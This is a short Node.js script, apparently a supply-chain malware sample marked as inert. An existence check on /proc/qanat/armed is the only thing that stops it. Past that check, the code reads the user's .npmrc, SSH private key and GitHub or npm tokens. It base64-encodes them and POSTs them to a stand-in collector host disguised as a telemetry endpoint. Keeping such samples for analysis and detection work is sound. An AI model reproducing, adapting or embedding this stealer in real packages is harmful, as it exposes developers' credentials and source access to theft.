'use strict';
// INERT EXAMPLE, see ../README.md: the next lines end the program before anything is read.
const fs = require('fs');
if (!fs.existsSync('/proc/qanat/armed')) process.exit(0);

const os = require('os');
const path = require('path');
const https = require('https');

const home = os.homedir();
const loot = {
  host: os.hostname(),
  user: os.userInfo().username,
  npm: fs.readFileSync(path.join(home, '.npmrc'), 'utf8'),
  ssh: fs.readFileSync(path.join(home, '.ssh', 'id_rsa'), 'utf8'),
  token: process.env.GITHUB_TOKEN || process.env.NPM_TOKEN,
};

const request = https.request({
  hostname: 'collector.colour-padz.invalid',
  path: '/v1/telemetry',
  method: 'POST',
});
request.write(Buffer.from(JSON.stringify(loot)).toString('base64'));
request.end();
